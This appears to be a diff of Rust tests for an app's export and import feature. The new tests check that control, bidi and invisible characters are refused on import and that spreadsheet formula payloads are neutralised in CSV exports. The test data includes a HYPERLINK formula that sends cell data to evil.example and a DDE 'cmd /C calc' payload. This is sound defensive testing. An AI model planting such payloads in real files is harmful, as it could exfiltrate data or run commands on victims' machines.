@@ -41,6 +41,7 @@ async fn export(app: &App, path: &Path) -> compilar_core::api::ExportSummary {
                 path: path.display().to_string(),
                 format: None,
                 request_id: "t".into(),
+                overwrite: None,
             },
             |_| {},
         )
@@ -143,11 +144,11 @@ async fn fill(app: &App) {
 async fn an_export_imported_into_a_fresh_installation_gives_the_same_data_and_twice_adds_nothing() {
     let a = common::open().await;
     fill(&a.app).await;
-    let zip = a.dir.path().join("out/everything.zip");
+    let zip = a.out.path().join("everything.zip");
     let summary = export(&a.app, &zip).await;
     assert_eq!(summary.reports, 1);
     assert_eq!(summary.conversations, 1);
-    let folder = a.dir.path().join("folder");
+    let folder = a.out.path().join("folder");
     export(&a.app, &folder).await;
     for f in [
         "data.json",
@@ -179,6 +180,7 @@ async fn an_export_imported_into_a_fresh_installation_gives_the_same_data_and_tw
                 path: zip.display().to_string(),
                 format: None,
                 request_id: "t".into(),
+                overwrite: None,
             },
             |_| {},
         )
@@ -247,7 +249,7 @@ async fn two_installations_that_answered_one_assessment_merge_question_by_questi
     };
     answer(&a.app, 0, 1).await;
     answer(&a.app, 1, 1).await;
-    let first = a.dir.path().join("first.zip");
+    let first = a.out.path().join("first.zip");
     export(&a.app, &first).await;
     let bdir = tempfile::tempdir().unwrap();
     let b = fresh(bdir.path()).await;
@@ -256,7 +258,7 @@ async fn two_installations_that_answered_one_assessment_merge_question_by_questi
     answer(&b, 0, 5).await;
     answer(&b, 2, 3).await;
     answer(&a.app, 3, 2).await;
-    let from_a = a.dir.path().join("from-a.zip");
+    let from_a = a.out.path().join("from-a.zip");
     export(&a.app, &from_a).await;
     let s = import(&b, &from_a, false).await.unwrap();
     assert_eq!(table(&s, "assessments").merged, 1);
@@ -291,7 +293,7 @@ fn zip_of(path: &Path, entries: &[(&str, &[u8])]) {
 async fn hostile_or_broken_exports_are_refused_and_nothing_is_written() {
     let a = common::open().await;
     fill(&a.app).await;
-    let good = a.dir.path().join("good");
+    let good = a.out.path().join("good");
     export(&a.app, &good).await;
     let data: Value =
         serde_json::from_slice(&std::fs::read(good.join("data.json")).unwrap()).unwrap();
@@ -407,6 +409,45 @@ async fn hostile_or_broken_exports_are_refused_and_nothing_is_written() {
         )],
         "archive_invalid",
     );
+    // What creating the record refuses, an import refuses: control characters, direction overrides and
+    // invisible characters in a person's text.
+    for (name, table, field, text) in [
+        (
+            "label-escape",
+            "assessments",
+            "group_label",
+            "Team\u{1b}]0;pwned\u{7}",
+        ),
+        (
+            "label-bidi",
+            "assessments",
+            "group_label",
+            "evil\u{202e}txt.exe",
+        ),
+        (
+            "note-isolate",
+            "assessments",
+            "note",
+            "see \u{2066}hidden\u{2069}",
+        ),
+        ("note-zero-width", "assessments", "note", "pay\u{200b}ment"),
+        ("goal-title-bom", "goals", "title", "goal\u{feff}"),
+        (
+            "conversation-newline",
+            "conversations",
+            "title",
+            "two\nlines",
+        ),
+    ] {
+        add(
+            name,
+            vec![(
+                "data.json",
+                with(&|v| v["tables"][table][0][field] = text.into()),
+            )],
+            "archive_invalid",
+        );
+    }
     // A truncated archive: the good one cut in half.
     let whole = d.join("whole.zip");
     export(&a.app, &whole).await;
@@ -447,7 +488,7 @@ async fn hostile_or_broken_exports_are_refused_and_nothing_is_written() {
 async fn an_export_can_be_stopped_and_leaves_nothing_behind() {
     let a = common::open().await;
     fill(&a.app).await;
-    let path = a.dir.path().join("stopped.zip");
+    let path = a.out.path().join("stopped.zip");
     let app = a.app.clone();
     let e = a
         .app
@@ -457,6 +498,7 @@ async fn an_export_can_be_stopped_and_leaves_nothing_behind() {
                 path: path.display().to_string(),
                 format: None,
                 request_id: "stop-me".into(),
+                overwrite: None,
             },
             move |p| {
                 if p.stage == "tables" {
@@ -476,9 +518,9 @@ async fn no_secret_reaches_an_export() {
     let a = common::open().await;
     common::configure(&a.app, &[("openai", "http://127.0.0.1:9".into())]).await;
     fill(&a.app).await;
-    let folder = a.dir.path().join("folder");
+    let folder = a.out.path().join("folder");
     export(&a.app, &folder).await;
-    let zip = a.dir.path().join("all.zip");
+    let zip = a.out.path().join("all.zip");
     export(&a.app, &zip).await;
     let mut files = vec![zip];
     let mut stack = vec![folder];
@@ -590,10 +632,15 @@ async fn a_result_as_html_and_pdf_has_its_scores_and_no_secret() {
         common::assert_no_keys(bytes, "a result report");
     }
     // Saved where asked, whole.
-    let out = t.dir.path().join("result.pdf");
+    let out = t.out.path().join("result.pdf");
     let f = app
         .reports()
-        .save(&a.id, ReportFormat::Pdf, &out)
+        .save(
+            &a.id,
+            ReportFormat::Pdf,
+            &out,
+            compilar_core::output::Overwrite::Refuse,
+        )
         .await
         .unwrap();
     assert_eq!(f.bytes, std::fs::metadata(&out).unwrap().len());
@@ -631,4 +678,65 @@ async fn a_result_as_html_and_pdf_has_its_scores_and_no_secret() {
         caution < html.find("class=\"score\"").unwrap(),
         "before the score"
     );
+}
+
+/// Text a spreadsheet would run as a formula (a group label, a note, a goal title, a conversation title) is
+/// written inert in every CSV of an export, and exact in `data.json`.
+#[tokio::test]
+async fn no_csv_of_an_export_runs_a_formula() {
+    let a = common::open().await;
+    let app = &a.app;
+    let r = common::completed(app, "grpprosp", "egalitarian", &[]).await;
+    let link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
+    app.assessments()
+        .set_about(compilar_core::api::AboutRequest {
+            assessment_id: r.id.clone(),
+            group_label: Some(link.into()),
+            note: Some("@SUM(1+1)*cmd|' /C calc'!A0".into()),
+        })
+        .await
+        .unwrap();
+    app.goals()
+        .add(NewGoalRequest {
+            assessment_id: r.id.clone(),
+            force: "goal_clarity".into(),
+            title: "+1+cmd".into(),
+            practice: Some("-2+3".into()),
+            practice_source: None,
+            practice_ref: None,
+            review_on: None,
+        })
+        .await
+        .unwrap();
+    let c = app
+        .chat()
+        .create(NewConversationRequest {
+            title: Some("=1+1".into()),
+            context: None,
+        })
+        .await
+        .unwrap();
+    assert_eq!(c.title, "=1+1");
+    let folder = a.out.path().join("export");
+    export(app, &folder).await;
+    let mut cells = 0;
+    for e in std::fs::read_dir(folder.join("csv")).unwrap().flatten() {
+        let mut rd = csv::Reader::from_path(e.path()).unwrap();
+        for rec in rd.records() {
+            for cell in rec.unwrap().iter() {
+                cells += 1;
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{}: {cell:?}",
+                    e.path().display()
+                );
+            }
+        }
+    }
+    assert!(cells > 100);
+    let text = std::fs::read_to_string(folder.join("csv/assessments.csv")).unwrap();
+    assert!(text.contains("'=HYPERLINK"), "{text}");
+    // The open format keeps the text exactly.
+    let data = std::fs::read_to_string(folder.join("data.json")).unwrap();
+    assert!(data.contains("\"=HYPERLINK(\\\"http://evil.example/?\\\"&A1,\\\"Open\\\")\""));
 }
